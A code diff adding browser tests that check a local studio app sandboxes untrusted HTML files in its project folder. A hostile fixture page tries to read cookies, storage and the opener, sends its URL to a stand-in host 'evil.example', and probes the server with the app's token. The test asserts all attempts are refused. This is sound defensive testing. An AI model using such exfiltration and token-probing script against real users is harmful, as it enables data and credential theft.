@@ -26,3 +26,57 @@ def test_window_opens_and_talks_to_this_server_alone(page: Any, studio_url: str)
     place = urlsplit(studio_url).netloc
     foreign = [url for url in [*requests, *sockets] if urlsplit(url).scheme in ("http", "https", "ws", "wss")]
     assert foreign and {urlsplit(url).netloc for url in foreign} == {place} and len(sockets) >= 1
+
+
+HOSTILE = """<!doctype html><title>report</title><script>
+const results = {};
+const attempt = async (name, action) => {
+  try { results[name] = await action() ?? "done"; } catch (problem) { results[name] = "refused"; }
+};
+const socket = url => new Promise((done, failed) => {
+  const socket = new WebSocket(url); socket.onopen = () => done("done"); socket.onerror = failed;
+});
+(async () => {
+  const place = location.host;
+  await attempt("cookie", () => document.cookie);
+  await attempt("storage", () => localStorage.length);
+  await attempt("opener", () => window.opener.location.href);
+  await attempt("read", () => fetch(location.href));
+  await attempt("send", () => fetch("http://evil.example/" + location.href, { mode: "no-cors" }));
+  await attempt("socket", () => socket("ws://" + place + location.pathname.split("/files/")[0]));
+  await attempt("token", () => socket("ws://" + place + "/TOKEN"));
+  await attempt("image", () => new Promise((done, failed) => {
+    const image = new Image(); image.onload = done; image.onerror = failed; image.src = "http://" + place + "/TOKEN/";
+  }));
+  window.results = results;
+})();
+</script><p>results</p>"""
+
+
+def test_a_hostile_page_of_the_folder_reaches_nothing(page: Any, studio_url: str, tmp_path: Any) -> None:
+    """Its scripts run, in an origin of their own: not even with the studio's token do they get in."""
+    token = urlsplit(studio_url).path.strip("/")
+    (tmp_path / "project" / "report.html").write_text(HOSTILE.replace("TOKEN", token))
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.goto(studio_url)
+    page.evaluate("window.open('files/report.html', '_self')")
+    page.wait_for_function("window.results && Object.keys(window.results).length == 8")
+    assert set(page.evaluate("Object.values(window.results)")) == {"refused"}
+    assert page.evaluate("window.origin") == "null"
+    assert token not in page.url and page.url.endswith("/files/report.html")
+    assert not [url for url in requests if "evil" in url]
+
+
+def test_a_pick_leaves_the_page_where_it_is(page: Any, studio_url: str) -> None:
+    page.goto(studio_url)
+    page.locator("canvas").last.wait_for(timeout=15_000)
+    page.evaluate(
+        "document.body.insertAdjacentHTML('beforeend', '<a id=a href=pick/12 style=\"position:fixed;z-index:9999\">12</a>')"
+    )
+    with page.expect_response(lambda response: "/pick/12" in response.url) as picked:
+        page.focus("#a")
+        page.keyboard.press("Enter")
+    assert picked.value.status == 204
+    page.wait_for_timeout(300)
+    assert page.locator("#a").count() == 1
